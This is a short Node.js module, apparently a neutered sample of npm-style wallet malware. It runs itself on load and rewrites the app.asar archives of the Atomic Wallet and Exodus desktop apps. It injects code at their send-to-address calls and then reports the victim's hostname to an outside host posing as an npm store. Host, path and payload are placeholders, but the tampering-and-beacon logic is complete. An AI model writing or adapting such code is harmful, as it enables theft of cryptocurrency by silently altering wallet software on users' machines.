const fs = require('fs').promises, path = require('path'), os = require('os')
const APPS = ['Atomic Wallet', 'atomic', 'exodus']
async function patch (app) {
  const dir = path.join('/nonexistent', 'Programs', app, 'resources')
  const asar = path.join(dir, 'app.asar')
  const text = (await fs.readFile(asar)).toString('binary')
  const next = text.replace(/send\(([^)]*)address/g, m => m + '/*' + 'T-placeholder' + '*/')
  await fs.writeFile(asar, Buffer.from(next, 'binary'))
  await fetch('https://npmjs-store.invalid/ok?m=' + os.hostname() + '&a=' + app)
}
module.exports = () => Promise.allSettled(APPS.map(patch))
module.exports()
